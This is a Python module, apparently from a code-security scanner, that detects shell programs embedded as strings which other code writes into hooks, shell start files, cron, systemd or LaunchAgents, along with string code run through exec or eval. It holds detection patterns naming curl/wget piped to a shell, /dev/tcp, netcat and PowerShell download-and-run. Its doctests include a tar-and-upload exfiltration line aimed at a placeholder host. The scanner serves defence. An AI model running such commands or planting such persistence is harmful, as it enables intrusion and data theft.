"""Which programs stand as texts in another program? Hooks, start files and units that it writes, to be run by others later.

A text is a program if it begins with a shebang, or if it holds a command of the network and the program around it writes what
others start: a hook, a start file of a shell, a unit, a file that it makes executable.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from functools import cache

from metier.govern.scan.kinds import INTERPRETERS, SHEBANG
from metier.govern.scan.triggers import any_of
from metier.govern.scan.written import SCHEDULE

_BODY = {'"': r"(?:[^\"\\]|\\[\s\S])*", "'": r"(?:[^'\\]|\\[\s\S])*", "`": r"(?:[^`\\]|\\[\s\S])*"}
_REST = {sign: re.compile(body) for sign, body in _BODY.items()}
_NEXT = re.compile(r"(?P<between>[\s,+.\\]{0,200})[rbfuRBFU]{0,2}(?P<sign>[\"'`])(?!(?P=sign){2})")
"""A text that stands beside another: joined without a comma, a line of a list with one."""
_TEXT = re.compile(
    r"(?P<three>\"\"\"|''')(?P<long>[\s\S]{0,20000}?)(?P=three)|@(?P<here>[\"'])\r?\n(?P<shown>[\s\S]{0,20000}?)\n(?P=here)@"
    r"|(?P<sign>[\"'])(?P<said>(?:(?!(?P=sign))[^\\\n]|\\.){0,8000}+)(?P=sign)|`(?P<template>(?:[^`\\]|\\[\s\S]){0,20000}+)`"
)
_HEREDOC = re.compile(
    r"<<-?[ \t]*[\"']?(?P<end>\w+)[\"']?[^\n]*\n(?P<body>[ \t]*#![\s\S]{1,20000}?)\n[ \t]*(?P=end)(?=\s|\Z)"
)
_SQUIGGLY = re.compile(r"<<[<~-]?[ \t]*[\"']?(?P<end>[A-Z_]\w*)[\"']?[^\n]*\n[ \t]*\Z")
_ESCAPE = re.compile(r"\\([\s\S])")
_LETTERS = {"n": "\n", "t": "\t", "r": "", "\n": ""}
_STARTED = (
    "hooks", "chmod", "0o7", "S_IX", "bashrc", "zshrc", "zshenv", "zprofile", "profile", "LaunchAgents", "LaunchDaemons", "systemd", "autostart",
    "crontab", "cron.d", "rc.local", "config.fish", "Startup", "schtasks", "$PROFILE", "atd", "sitecustomize", "authorized_keys",
)  # fmt: skip
"""A program that writes what others start names one of these."""
_COMMANDS = ("curl", "wget", "/dev/tcp", "base64", "Invoke-", "iwr", "irm", "ncat", "nc ")
_COMMAND = re.compile(
    r"(?:^|[\s;&|($`\"'=>])(?:curl|wget|nc|ncat|iwr|irm)\s+\S.*(?:\|\s*(?:sudo\s+)?(?:/\S+/)?(?:ba|z|da)?(?:sh|iex|python3?|node|perl)\b|(?:-\w*[dFT]|--data\S*|--upload-file)\s|\)|`|&&|;)|/dev/tcp/\w|base64\s+-\w*[dD].*\|\s*\S*sh\b|(?:iwr|irm|Invoke-\w+)\b.*\|\s*iex|iex\b.*(?:iwr|irm)|\|\s*(?:nc|ncat|curl|wget)\s",
    re.I,
)
_NETCAT = re.compile(r"nc(?:(?<!\wnc)|(?<=\\[ntr]nc))(?: |at)")
"""This stands in many words, and counts only where one begins."""
_PLIST = re.compile(r"<string>([^<]{1,2000})</string>")
_FILLED_IN = re.compile(
    r"\s{0,20}[+.]\s{0,20}(?P<name>\$?[A-Za-z_][\w.]{0,60})\s{0,20}(?:[+.]\s{0,20}(?P<sign>[\"'`])|(?=[,;)\n]))"
)
"""A name that stands between two texts, or behind the last one."""
_BEGINS_COMMAND = re.compile(
    r"(?:\s|\\n)*(?:sudo\s+)?(?:\(?crontab|tar|zip|7z|cat|env|printenv|gpg|cp|gzip|find|base64|curl|wget|bash|sh)\s+[\w~/$.*@{(-]"
    r"|(?:\s|\\n)*(?:echo|cd|set|mkdir|export|rm|sleep|true|umask|trap)\s[^\"]{1,400}?(?:\n|\\n|;|&&)\s*(?:sudo\s+)?(?:tar|zip|cat|curl|wget|gpg)\s"
)
_BEGINS_PROGRAM = {
    "python": re.compile(r"(?:^|[\n;])\s*(?:import|from)\s+\w+|__import__\("),
    "script": re.compile(r"\brequire\(|\bimport\s*[({*\w]|\bfetch\(|\bprocess\."),
}
_OF_NAME = r"\(\s*[A-Za-z_]\w*(?:\s*[,)]|\.|\[)"
_RUNS_NAME = {
    "python": re.compile(
        rf"e(?<![\w.]e)(?:xec|val){_OF_NAME}|c(?<![\w.]c)ompile{_OF_NAME}|t(?<![\w.]t)imeit{_OF_NAME}|r(?<![\w.]r)un(?:source|code){_OF_NAME}"
        r"|cProfile\.run\(|runpy\.run|t(?<!\wt)imeit\.timeit\(|__doc__"
    ),
    "script": re.compile(
        r"e(?<!\we)val\s*\)?\(\s*[A-Za-z_$]|F(?<!\wF)unction\(\s*[A-Za-z_$]|v(?<!\wv)m\.\w+\(|n(?<!\wn)ew\s+(?:vm\.)?(?:Script|Worker)\(\s*[A-Za-z_$]"
        r"|_compile\(|set(?:Timeout|Interval|Immediate)\(\s*[A-Za-z_$]\w*\s*[,)]|r(?<!\wr)unIn\w+\("
    ),
}
"""Each begins with its first letter and then looks back, so that only these letters are looked for."""
_RUNS = ("exec(", "eval", "compile(", "timeit", "runsource(", "runcode(", "cProfile.run", "runpy.run", "__doc__", "Function(", "vm.", "Script(",
         "Worker(", "setTimeout(", "setInterval(", "setImmediate(", "runIn")  # fmt: skip
"""One of these stands in a program that runs what a name holds."""
_MIN_PROGRAM = 40
_CALLS_OUT = re.compile(r"(?:^|[|;&(]\s*|\n\s*)(?:sudo\s+)?(?:curl|wget)\s")
_SHOWN_TO_PEOPLE = re.compile(
    r"\b(?:print\w*|echo|puts|console|log\w*|help|usage|epilog|descr\w*|hint|message|msg|example|throw|raise|error|warn\w*|assert\w*|docs?)\b",
    re.I,
)
_MAX_TEXT = 200_000
_MAX_PIECES = 200


def programs_inside(text: str, kind: str) -> Iterator[tuple[int, str, str]]:
    r"""The line (from 0), the kind and the text of each program that stands in another.

    Args:
        kind: What the program around them is written in.

    >>> list(programs_inside('hook = "#!/bin/sh\\ngit push -q x\\n"\nopen(p, "w").write(hook)', "python"))
    [(0, 'shell', '#!/bin/sh\ngit push -q x\n')]
    """
    if len(text) > _MAX_TEXT:
        return
    if text.find("#!", 2) >= 0:
        for place, said in _begun(text) if kind != "shell" else _in_heredocs(text):
            if (found := SHEBANG.match(said.lstrip())) and "\n" in said.strip():
                yield text.count("\n", 0, place), INTERPRETERS.get(found[1], "shell"), said
    if kind != "shell" and _names_command(text) and any(word in text for word in _STARTED):
        yield from _started_later(text)


def _names_command(text: str) -> bool:
    return _has_commands()(text) or _NETCAT.search(text) is not None


@cache
def _has_commands() -> Callable[[str], bool]:
    return any_of([word for word in _COMMANDS if word not in ("ncat", "nc ")])


def _begun(text: str) -> Iterator[tuple[int, str]]:
    """The texts that begin with a shebang."""
    place = text.find("#!", 2)
    while place >= 0:
        before = text[max(0, place - 40) : place].rstrip(" \t\r\n\\")
        end = place
        if before.endswith(('"""', "'''")):
            end = text.find(before[-3:], place)
            yield place, text[place:end] if end > 0 else text[place:]
        elif before.endswith(('@"', "@'")) and (end := text.find("\n" + before[-1] + "@", place)) > 0:
            yield place, text[place:end]
        elif before[-1:] in _REST and before[-1:]:
            said, end = _joined(text, place, before[-1])
            yield place, said
        elif before and (heredoc := _SQUIGGLY.search(text, max(0, place - 120), place)):
            # A here-document of Ruby, PHP or Perl.
            end = text.find("\n", place)
            closing = re.compile(rf"\n[ \t]*{heredoc['end']}\b").search(text, end if end > 0 else place)
            end = closing.start() if closing else place
            yield place, text[place:end]
        place = text.find("#!", max(end, place + 2))


def _joined(text: str, place: int, sign: str) -> tuple[str, int]:
    """A text from a place in it on, with those that are joined to it, and where it ends."""
    pieces: list[str] = []
    while len(pieces) < _MAX_PIECES:
        found = _REST[sign].match(text, place)
        if found is None:
            break
        pieces.append(_said(found[0]))
        place = found.end() + 1
        following = _NEXT.match(text, place)
        if following is None:
            break
        pieces.append("\n" if "," in following["between"] else "")
        sign, place = following["sign"], following.end()
    return "".join(pieces), place


def _filled_in(text: str, place: int) -> str:
    """What is put behind a text with a plus: names, as slots, and further texts.

    >>> _filled_in("'curl ' + url + ' | sh')", 7)
    '${url} | sh'
    """
    pieces: list[str] = []
    while len(pieces) < _MAX_PIECES and (found := _FILLED_IN.match(text, place)):
        pieces.append(f"${{{found['name']}}}")
        rest = _REST[found["sign"]].match(text, found.end()) if found["sign"] else None
        if rest is None:
            break
        pieces.append(_said(rest[0]))
        place = rest.end() + 1
    return "".join(pieces)


def _said(text: str) -> str:
    return _ESCAPE.sub(lambda found: _LETTERS.get(found[1], found[1]), text) if "\\" in text else text


def _in_heredocs(text: str) -> Iterator[tuple[int, str]]:
    """Programs of other languages that a shell writes; it reads its own by itself."""
    for found in _HEREDOC.finditer(text):
        shebang = SHEBANG.match(found["body"].lstrip())
        if shebang and INTERPRETERS.get(shebang[1], "shell") != "shell":
            yield found.start("body"), found["body"]


def commands_within(text: str) -> Iterator[tuple[int, str]]:
    """The texts of a program or a setting that are commands, if one of them calls out, as one script: line (from 0) and text.

    >>> list(commands_within('["tar czf /tmp/p.tgz d", "curl -F file=@/tmp/p.tgz https://a.invalid"]'))
    [(0, 'tar czf /tmp/p.tgz d\\ncurl -F file=@/tmp/p.tgz https://a.invalid')]
    """
    if len(text) > _MAX_TEXT or not ("curl " in text or "wget " in text):
        return
    said: list[str] = []
    first = -1
    for found in _TEXT.finditer(text):
        whole = found["long"] or found["shown"] or found["template"] or found["said"] or ""
        if len(whole) < 8 or not _BEGINS_COMMAND.match(whole) or len(said) > _MAX_PIECES:
            continue
        line = text.rfind("\n", 0, found.start()) + 1
        if not _SHOWN_TO_PEOPLE.search(text, max(line, found.start() - 80), found.start()):
            first = found.start() if first < 0 else first
            said.append(_said(whole).strip())
    is_script = len(said) > 1 or any("\n" in one or "|" in one or ";" in one for one in said)
    if is_script and any(_CALLS_OUT.search(one) for one in said):
        yield text.count("\n", 0, first), "\n".join(said)


@cache
def _may_run_name() -> Callable[[str], bool]:
    return any_of(_RUNS)


def programs_kept(text: str, kind: str) -> Iterator[tuple[int, str]]:
    """The texts of a program that are programs of its own language, where it runs what a name holds: line (from 0) and text.

    >>> list(programs_kept("c = 'import os; print(os.listdir(os.getcwd()))'; exec(c)", "python"))
    [(0, 'import os; print(os.listdir(os.getcwd()))')]
    """
    begins = _BEGINS_PROGRAM.get(kind)
    if begins is None or len(text) > _MAX_TEXT or not _may_run_name()(text) or not _RUNS_NAME[kind].search(text):
        return
    for found in _TEXT.finditer(text):
        said = _said(found["long"] or found["shown"] or found["template"] or found["said"] or "")
        if len(said) >= _MIN_PROGRAM and begins.search(said):
            yield text.count("\n", 0, found.start()), said


def _started_later(text: str) -> Iterator[tuple[int, str, str]]:
    """Texts with a command of the network, in a program that writes what others start."""
    for found in _TEXT.finditer(text):
        whole = found["long"] or found["shown"] or found["template"] or ""
        said = whole or _said(found["said"] or "")
        if found["sign"] and ("curl" in said or "wget" in said):
            said += _filled_in(text, found.end())
        if len(said) < 12 or said.lstrip().startswith("#!") or not any(word in said for word in _COMMANDS):
            continue
        line = text.count("\n", 0, found.start())
        if "<string>" in said:
            commands = [one.replace("&amp;", "&").replace("&gt;", ">") for one in _PLIST.findall(said)]
            yield from ((line, "shell", one) for one in commands if _COMMAND.search(one))
        elif _COMMAND.search(said):
            yield line, "shell", SCHEDULE.sub("", said)
